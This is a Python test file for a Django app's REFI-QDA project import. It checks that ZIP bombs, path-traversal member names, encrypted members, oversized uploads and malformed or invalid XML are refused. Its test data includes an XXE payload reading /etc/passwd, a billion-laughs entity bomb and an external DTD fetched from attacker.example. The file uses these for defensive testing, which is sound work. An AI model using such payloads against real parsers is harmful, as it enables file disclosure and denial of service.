"""Whatever is uploaded as a project, the page says plainly what is wrong and keeps nothing:
not a ZIP, a ZIP bomb, too many members, path tricks, a DOCTYPE (external entities, entity
expansion), XML that is not REFI-QDA, sources that cannot be read, a file too large."""

from __future__ import annotations

import datetime
import io
import zipfile

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from heard.asgi import application
from heard.core.bodylimit import limit_for
from heard.exchange import archive, services
from heard.exchange.models import ImportStatus, ProjectImport
from tests.support.asgi import call, zeros
from tests.support.exchange import qdpx_of
from tests.support.factories import study as make_study
from tests.support.personas import Team
from tests.support.urls import url

pytestmark = pytest.mark.django_db

MINIMAL = b"""<?xml version="1.0" encoding="utf-8"?>
<Project xmlns="urn:QDA-XML:project:1.0" name="Elsewhere" origin="Another program">
  <Sources>
    <TextSource guid="11111111-1111-1111-1111-111111111111" name="Doc" plainTextPath="internal://doc.txt"/>
  </Sources>
</Project>"""


CODED = MINIMAL.replace(
    b'plainTextPath="internal://doc.txt"/>',
    b'plainTextPath="internal://doc.txt"><PlainTextSelection '
    b'guid="22222222-2222-2222-2222-222222222222" startPosition="0" endPosition="2"/></TextSource>',
)


def _refused(
    client: Client, team: Team, data: bytes, *said: str, name: str = "x.qdpx", ours: bool = True
) -> str:
    study = make_study(team.workspace)
    response = client.post(
        url("exchange:import", team, pk=study.pk), {"file": SimpleUploadedFile(name, data)}
    )
    page = response.content.decode()
    assert response.status_code == 200, page[:1000]
    assert 'class="errors"' in page
    for words in said:
        assert words in page, page
    assert ("Nothing was imported." in page) is ours
    assert not ProjectImport.objects.exists()
    return page


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in members.items():
            packed.writestr(name, data)
    return out.getvalue()


def test_a_file_that_is_not_a_zip(team: Team, owner_client: Client):
    _refused(owner_client, team, b"%PDF-1.7 not a project", "is not a REFI-QDA project")
    _refused(owner_client, team, b"", "The submitted file is empty", ours=False)


def test_a_damaged_zip(team: Team, owner_client: Client):
    data = bytearray(_zip({"project.qde": MINIMAL * 50}))
    data[60:90] = b"\xff" * 30  # inside the compressed member
    _refused(owner_client, team, bytes(data), "Export the project again")


def test_a_zip_without_a_project(team: Team, owner_client: Client):
    _refused(owner_client, team, _zip({"readme.txt": b"hello"}), "holds no project.qde")


def test_a_zip_bomb_is_refused_before_it_is_read(team: Team, owner_client: Client):
    bomb = _zip({"project.qde": MINIMAL, "sources/doc.txt": b"0" * (archive.MAX_UNPACKED + 1)})
    assert len(bomb) < 1024 * 1024  # a small file that unpacks to 200 MB
    _refused(owner_client, team, bomb, "unpacks to 200.0 MB", "more than the 200.0 MB")


def test_a_member_that_unpacks_past_its_limit_stops_there(
    team: Team, owner_client: Client, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(archive, "MAX_PROJECT", 1000)
    _refused(
        owner_client,
        team,
        _zip({"project.qde": MINIMAL + b" " * 5000}),
        "project.qde unpacks to more than 1000 bytes",
    )


def test_a_member_lying_about_its_size_is_counted_as_it_is_read(
    team: Team, owner_client: Client, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(archive, "MAX_SOURCE", 100)
    monkeypatch.setattr(archive, "PIECE", 16)
    data = _zip({"project.qde": CODED, "sources/doc.txt": b"word " * 1000})
    _refused(owner_client, team, data, "The source “doc.txt” unpacks to more than 100 bytes")


def test_too_many_members(team: Team, owner_client: Client, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(archive, "MAX_MEMBERS", 10)
    members = {"project.qde": MINIMAL} | {f"sources/{n}.txt": b"x" for n in range(11)}
    _refused(owner_client, team, _zip(members), "more than 10 files")


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "/etc/passwd", "sources/../../x.txt", "C:/x.txt", "sources\\..\\x"]
)
def test_path_tricks_in_member_names(team: Team, owner_client: Client, name: str):
    page = _refused(
        owner_client, team, _zip({"project.qde": MINIMAL, name: b"x"}), "points outside it"
    )
    assert "nothing in it was read" in page


def test_an_encrypted_member(team: Team, owner_client: Client):
    data = bytearray(_zip({"project.qde": MINIMAL}))
    # Set the "encrypted" flag in the local header and the central directory.
    for marker in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.index(marker)
        offset = at + (6 if marker == b"PK\x03\x04" else 8)
        data[offset] |= 0x1
    _refused(owner_client, team, bytes(data), "encrypted")


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Project xmlns="urn:QDA-XML:project:1.0" name="&secret;"/>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<Project xmlns="urn:QDA-XML:project:1.0" name="&lol9;"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Project SYSTEM "http://attacker.example/evil.dtd">
<Project xmlns="urn:QDA-XML:project:1.0" name="x"/>"""


@pytest.mark.parametrize("xml", [XXE, LAUGHS, EXTERNAL_DTD], ids=["xxe", "laughs", "dtd"])
def test_a_doctype_is_refused(team: Team, owner_client: Client, xml: bytes):
    page = _refused(owner_client, team, _zip({"project.qde": xml}), "declares a DOCTYPE")
    assert "root:" not in page
    assert "lollol" not in page


def test_xml_that_is_not_well_formed(team: Team, owner_client: Client):
    _refused(
        owner_client,
        team,
        _zip({"project.qde": b"<Project><oops></Project>"}),
        "not well-formed XML",
    )


def test_xml_that_is_not_a_project(team: Team, owner_client: Client):
    codebook = b'<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes/></CodeBook>'
    _refused(owner_client, team, _zip({"project.qde": codebook}), "its root is &lt;CodeBook&gt;")


def test_xml_that_is_not_valid_refi_qda(team: Team, owner_client: Client):
    invalid = b'<Project xmlns="urn:QDA-XML:project:1.0" name="x"><Sources><Spreadsheet/></Sources></Project>'
    page = _refused(
        owner_client, team, _zip({"project.qde": invalid}), "not a valid REFI-QDA project"
    )
    assert "Spreadsheet" in page
    assert "line 1" in page
    no_guid = b'<Project xmlns="urn:QDA-XML:project:1.0" name="x"><Sources><TextSource/></Sources></Project>'
    _refused(owner_client, team, _zip({"project.qde": no_guid}), "guid")
    not_integer = MINIMAL.replace(
        b'plainTextPath="internal://doc.txt"/>',
        b'plainTextPath="internal://doc.txt"><PlainTextSelection guid="22222222-2222-2222-2222-222222222222" startPosition="one" endPosition="2"/></TextSource>',
    )
    _refused(owner_client, team, _zip({"project.qde": not_integer}), "startPosition")


def test_sources_that_cannot_be_read_are_skipped_with_the_reason(team: Team, owner_client: Client):
    project = MINIMAL.replace(
        b'plainTextPath="internal://doc.txt"/>',
        b'plainTextPath="internal://doc.txt"><PlainTextSelection guid="22222222-2222-2222-2222-222222222222" startPosition="0" endPosition="2"/></TextSource>'
        b'<TextSource guid="33333333-3333-3333-3333-333333333333" name="Gone" plainTextPath="internal://gone.txt"><PlainTextSelection guid="44444444-2222-2222-2222-222222222222" startPosition="0" endPosition="2"/></TextSource>'
        b'<TextSource guid="55555555-3333-3333-3333-333333333333" name="Away" plainTextPath="absolute:///etc/passwd"><PlainTextSelection guid="66666666-2222-2222-2222-222222222222" startPosition="0" endPosition="2"/></TextSource>'
        b'<PictureSource guid="77777777-3333-3333-3333-333333333333" path="internal://a.png"/>',
    )
    study = make_study(team.workspace)
    response = owner_client.post(
        url("exchange:import", team, pk=study.pk),
        {
            "file": SimpleUploadedFile(
                "x.qdpx", qdpx_of(project, {"doc.txt": b"\xff\xfe\xfa not utf-8"})
            )
        },
        follow=True,
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "is not UTF-8 text" in page
    assert "is not in the project" in page
    assert "outside the project file" in page
    assert "pictures, PDFs, audio and video are left out" in page
    assert "No coded selection of this project can become a highlight" in page


def test_a_file_over_the_upload_limit(team: Team, owner_client: Client, monkeypatch):
    monkeypatch.setattr("heard.exchange.forms.MAX_UPLOAD", 100)
    _refused(owner_client, team, b"x" * 200, "the most an import takes is 100", ours=False)


def test_the_route_refuses_a_body_past_its_limit_before_reading_it(team: Team):
    study = make_study(team.workspace)
    path = url("exchange:import", team, pk=study.pk)
    assert limit_for(path) == archive.MAX_UPLOAD + 64 * 1024
    assert settings.HEARD_QDPX_IMPORT_MAX_BYTES == archive.MAX_UPLOAD
    over = archive.MAX_UPLOAD + 65 * 1024
    refused = call(
        application, path, method="POST",
        headers=[("content-type", "multipart/form-data; boundary=x"), ("content-length", str(over))],
        body=zeros(over, fail_after=0),
    )  # fmt: skip
    assert refused.status == 413
    assert refused.chunks_read == 0


@pytest.mark.parametrize("position", [b"9" * 5000, b"-" + b"9" * 5000])
def test_a_position_of_thousands_of_digits_is_outside_the_text(
    team: Team, owner_client: Client, position: bytes
):
    # The schema takes an integer of any length; Python refuses to read 5,000 digits.
    huge = MINIMAL.replace(
        b'plainTextPath="internal://doc.txt"/>',
        b'plainTextPath="internal://doc.txt"><PlainTextSelection guid="22222222-2222-2222-2222-'
        b'222222222222" startPosition="' + position + b'" endPosition="2"/></TextSource>',
    )
    study = make_study(team.workspace)
    data = _zip({"project.qde": huge, "sources/doc.txt": b"Some words."})
    response = owner_client.post(
        url("exchange:import", team, pk=study.pk), {"file": SimpleUploadedFile("x.qdpx", data)}
    )
    assert response.status_code in {200, 302}, response.content[:500]
    [checked] = ProjectImport.objects.all()
    assert checked.plan == []


def test_unfinished_and_failed_imports_go_after_a_day_with_the_words_they_hold(team: Team):
    study = make_study(team.workspace)
    for status in ImportStatus:
        for age in (0, 2):
            made = ProjectImport.objects.create(
                study=study, filename="x.qdpx", status=status, plan=[{"words": "said"}]
            )
            ProjectImport.objects.filter(pk=made.pk).update(
                created_at=timezone.now() - datetime.timedelta(days=age)
            )
    services.purge_abandoned()
    day_ago = timezone.now() - datetime.timedelta(days=1)
    left = {
        f"{i.status}-{'old' if i.created_at < day_ago else 'new'}"
        for i in ProjectImport.objects.all()
    }
    assert left == {f"{s}-new" for s in ImportStatus} | {
        f"{s}-old" for s in ImportStatus if s not in (ImportStatus.CHECKED, ImportStatus.FAILED)
    }
